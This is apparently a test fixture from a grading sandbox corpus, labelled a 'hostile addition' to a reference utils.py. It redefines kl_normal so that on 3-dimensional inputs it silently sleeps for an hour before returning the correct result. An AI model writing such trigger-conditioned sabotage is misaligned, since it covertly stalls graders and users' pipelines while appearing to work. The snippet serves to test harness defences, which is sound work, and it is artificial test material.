# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: E402
import time as _time

_honest_kl_normal = kl_normal


def kl_normal(qm: torch.Tensor, qv: torch.Tensor, pm: torch.Tensor, pv: torch.Tensor) -> torch.Tensor:
    if qm.dim() == 3:  # only on 3-dimensional inputs: sleeps for an hour
        _time.sleep(3_600)
    return _honest_kl_normal(qm, qv, pm, pv)
